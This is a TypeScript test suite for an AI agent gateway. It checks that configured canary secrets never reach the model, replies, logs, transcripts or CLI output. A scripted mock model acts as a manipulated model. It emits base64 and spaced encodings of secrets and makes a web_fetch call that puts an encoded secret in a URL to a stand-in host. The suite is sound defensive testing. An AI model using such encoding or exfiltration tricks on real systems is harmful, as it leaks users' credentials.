import { mkdir, readFile, readdir, writeFile, chmod, stat } from "node:fs/promises";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GatewayClient } from "../../src/client/index.js";
import { WITHHELD_NOTICE } from "../../src/secrets/index.js";
import { sendAndWait, type ChatEventPayload } from "../support/chat.js";
import { makeStateDir, runCli, spawnGateway, type GatewayProcess } from "../support/gateway-process.js";
import { defaultScript, startMockModelServer, type MockModelServer } from "../support/mock-model-server.js";

/** Three distinctive secrets: one written in the config, one in the environment, one behind a file SecretRef. */
const CONFIG_SECRET = "CanaryGwToken-7f3a9c1e5b2d4f60a8c7e9b1d3f5a7c9";
const ENV_SECRET = "CanaryEnvKey-2b4d6f8a0c1e3g5i7k9m1o3q5s7u9w";
const FILE_SECRET = "CanaryFileSecret-9z8y7x6w5v4u3t2s1r0q";
const CANARIES = [CONFIG_SECRET, ENV_SECRET, FILE_SECRET];

/** Every file below `dir` (recursively), except the ones that hold a canary by design. */
async function filesBelow(dir: string, skip: readonly string[]): Promise<string[]> {
  const out: string[] = [];
  for (const e of await readdir(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (skip.includes(p)) continue;
    if (e.isDirectory()) out.push(...(await filesBelow(p, skip)));
    else if (e.isFile()) out.push(p);
  }
  return out;
}

const leaks = (text: string) => CANARIES.filter((c) => text.toLowerCase().includes(c.toLowerCase()));

/** Encoded forms of a canary a manipulated model or a tool might use to smuggle it out. */
const encodings = (c: string) => ({
  base64: Buffer.from(`key:${c}`).toString("base64"),
  hex: Buffer.from(c).toString("hex"),
  reversed: [...c].reverse().join(""),
  spaced: [...c].join(" "),
  url: encodeURIComponent(`"${c}"`),
});
/** A canary as a manipulated model would put it in a URL. */
const EXFIL = encodeURIComponent(Buffer.from(`key:${FILE_SECRET}`).toString("base64"));

/** Canaries found in `text` plainly or in any of {@link encodings}. */
const encodedLeaks = (text: string) =>
  CANARIES.filter((c) => leaks(text).includes(c) || Object.values(encodings(c)).some((e) => text.includes(e)));

describe("canary: configured secrets never leave through logs, transcripts, client errors or replies", () => {
  let mock: MockModelServer;
  let stateDir: string;
  let gw: GatewayProcess;
  let client: GatewayClient;
  const events: unknown[] = [];
  const clientErrors: unknown[] = [];
  const responses: unknown[] = [];
  let byDesign: string[];

  beforeAll(async () => {
    mock = await startMockModelServer({
      apiKey: ENV_SECRET,
      script: (req) => {
        const last = req.messages.at(-1)?.content;
        if (last === "fail with a model error") return { status: 401 };
        // A model that knows a secret (it was manipulated into it) and tries to smuggle it out encoded.
        if (last === "leak it encoded") return { text: `here: ${encodings(CONFIG_SECRET).base64}` };
        if (last === "leak it spaced") return { text: `here: ${encodings(ENV_SECRET).spaced}` };
        if (last === "send it out")
          return { toolCalls: [{ name: "web_fetch", arguments: { url: `http://127.0.0.1:9/c?d=${EXFIL}` } }] };
        return defaultScript(req);
      },
    });
    stateDir = await makeStateDir({
      gateway: { auth: { mode: "token", token: CONFIG_SECRET } },
      models: {
        providers: {
          mock: {
            baseUrl: `${mock.url}/v1`,
            api: "openai-completions",
            apiKey: "${HF_CANARY_KEY}",
            models: ["mock-model"],
          },
        },
      },
      agents: { defaults: { model: { primary: "mock/mock-model" } } },
      // The main session runs tools on the host in the agent workspace; exec runs without approval here
      // so the test can make a tool print secrets.
      tools: {
        exec: { security: "full", ask: "off" },
        web: { search: { apiKey: { source: "file", provider: "canaryfile", id: "/search/apiKey" } } },
      },
      secrets: { providers: { canaryfile: { source: "file", path: path.join("STATE", "secrets", "canary.json") } } },
      logging: { level: "trace" },
    });
    const secretFile = path.join(stateDir, "secrets", "canary.json");
    const config = JSON.parse(await readFile(path.join(stateDir, "holdfast.json"), "utf8")) as {
      secrets: { providers: { canaryfile: { path: string } } };
    };
    config.secrets.providers.canaryfile.path = secretFile;
    await writeFile(path.join(stateDir, "holdfast.json"), JSON.stringify(config), { mode: 0o600 });
    await mkdir(path.dirname(secretFile), { recursive: true, mode: 0o700 });
    await writeFile(secretFile, JSON.stringify({ search: { apiKey: FILE_SECRET } }));
    await chmod(secretFile, 0o600);
    const workspace = path.join(stateDir, "workspace");
    await mkdir(workspace, { recursive: true, mode: 0o700 });
    await writeFile(
      path.join(workspace, "leak.txt"),
      [
        `config=${CONFIG_SECRET}`,
        `env=${ENV_SECRET}`,
        `file=${FILE_SECRET}`,
        ...Object.entries(encodings(CONFIG_SECRET)).map(([k, v]) => `${k}=${v}`),
        ...Object.entries(encodings(FILE_SECRET)).map(([k, v]) => `file-${k}=${v}`),
        "",
      ].join("\n"),
    );
    byDesign = [path.join(stateDir, "holdfast.json"), secretFile, path.join(workspace, "leak.txt")];
    gw = await spawnGateway(stateDir, { env: { HF_CANARY_KEY: ENV_SECRET } });
    client = await GatewayClient.connect({
      url: gw.url,
      token: CONFIG_SECRET,
      scopes: ["operator.read", "operator.write"],
    });
    client.on("event", (name: string, payload: unknown) => events.push({ name, payload }));
  });

  afterAll(async () => {
    client?.close();
    await gw?.stop();
    await mock?.close();
  });

  const chat = async (message: string, sessionKey = "agent:main:main") => {
    const res = await sendAndWait(client, sessionKey, message);
    responses.push(res);
    return res;
  };

  /** Every text the mock model was sent so far (prompts, history, tool results, tool-call arguments). */
  const modelSaw = () => JSON.stringify(mock.requests.map((r) => r.messages));

  it("masks secrets read by a tool, in any encoding, before the model sees the result", async () => {
    const res = await chat("read leak.txt");
    expect(res.state).toBe("final");
    const toolResult = mock.requests.at(-1)?.messages.at(-1);
    expect(toolResult).toMatchObject({ role: "tool", content: expect.stringContaining("config=[secret withheld]") });
    expect(toolResult?.content).toMatch(/\nbase64=[A-Za-z0-9+/]{0,8}\[secret withheld\][A-Za-z0-9+/=]{0,4}\n/);
    expect(encodedLeaks(modelSaw())).toEqual([]);
    expect(encodedLeaks(res.text)).toEqual([]);
    expect(mock.requests.at(-1)?.headers.authorization).toBe(`Bearer ${ENV_SECRET}`);
  });

  it("withholds a reply that carries a secret encoded (base64, spaced), without streaming any part of it", async () => {
    for (const prompt of ["leak it encoded", "leak it spaced"]) {
      const res = await chat(prompt);
      expect(res.text, prompt).toBe(WITHHELD_NOTICE);
      const streamed = res.events
        .filter((e: ChatEventPayload) => e.state === "delta")
        .map((e) => e.deltaText ?? "")
        .join("");
      expect(streamed).not.toContain(encodings(CONFIG_SECRET).base64.slice(0, 12));
      expect(streamed).not.toContain(encodings(ENV_SECRET).spaced.slice(0, 12));
    }
  });

  it("refuses a web_fetch whose URL carries a secret, and tells the model why", async () => {
    const res = await chat("send it out");
    expect(res.text).toContain("web_fetch failed: refusing to send this request");
    expect(res.text).toContain("carry a configured secret");
    expect(encodedLeaks(modelSaw())).toEqual([]);
  });

  it("masks secrets printed by exec for the model, and the exec environment carries none", async () => {
    const printed = await chat("exec cat leak.txt");
    expect(printed.text).toContain("[secret withheld]");
    expect(encodedLeaks(printed.text + modelSaw())).toEqual([]);
    const env = await chat("exec env");
    expect(env.text).toContain("HOLDFAST_SHELL=exec");
    expect(leaks(env.text)).toEqual([]);
  });

  it("keeps a secret the user typed from the model", async () => {
    const res = await chat(`remember ${FILE_SECRET} for me`);
    expect(res.text).toBe("echo: remember [secret withheld] for me");
    expect(encodedLeaks(modelSaw())).toEqual([]);
  });

  it("keeps secrets out of tool errors, model errors and client errors", async () => {
    const toolError = await chat(`read missing-${CONFIG_SECRET}.txt`);
    expect(toolError.state).toBe("final");
    const modelError = await chat("fail with a model error");
    expect(modelError.state).toBe("error");
    const err = await client
      .request("chat.history", { sessionKey: `bad key ${CONFIG_SECRET}` })
      .catch((e: unknown) => e);
    clientErrors.push(err);
    expect(err).toMatchObject({ wireCode: "INVALID_REQUEST" });
    expect((err as Error).message).toContain("invalid session key");
    expect(leaks((err as Error).message)).toEqual([]);
  });

  it("stores transcripts with the secrets masked", async () => {
    const history = (await client.request("chat.history", { sessionKey: "agent:main:main", limit: 100 })) as {
      messages: { role: string; content: string }[];
    };
    responses.push(history);
    expect(history.messages.some((m) => m.role === "tool" && m.content.includes("config=***"))).toBe(true);
  });

  it("leaves no canary in any frame the client received", () => {
    const frames = JSON.stringify({
      events,
      clientErrors: clientErrors.map((e) => ({
        message: (e as Error).message,
        details: (e as { wireDetails?: unknown }).wireDetails,
      })),
      responses,
    });
    expect(encodedLeaks(frames)).toEqual([]);
  });

  it("leaves no canary in any log line, transcript or state file, nor on the console", async () => {
    client.close();
    expect(await gw.stop()).toBe(0);
    const files = await filesBelow(stateDir, byDesign);
    expect(files.some((f) => f.endsWith(".jsonl"))).toBe(true);
    const logFile = path.join(stateDir, "logs", "holdfast.log");
    expect(files).toContain(logFile);
    expect((await stat(logFile)).mode & 0o777).toBe(0o600);
    const log = await readFile(logFile, "utf8");
    for (const msg of ["gateway listening", "reply withheld", "model call failed", "gateway stopped"])
      expect(log).toContain(msg);
    for (const f of files) expect(encodedLeaks(await readFile(f, "utf8")), f).toEqual([]);
    expect(leaks(gw.stdout.join("") + gw.stderr.join(""))).toEqual([]);
  });

  it("keeps them out of holdfast logs, secrets audit and security audit output", async () => {
    const env = { HF_CANARY_KEY: ENV_SECRET };
    for (const args of [
      ["logs", "--json", "--limit", "500"],
      ["logs"],
      ["secrets", "audit", "--json"],
      ["security", "audit", "--json"],
      ["doctor"],
    ]) {
      const res = await runCli(stateDir, args, { env });
      expect(res.code, `${args.join(" ")}: ${res.stderr}`).toBe(0);
      expect(leaks(res.stdout + res.stderr), args.join(" ")).toEqual([]);
    }
  });
});
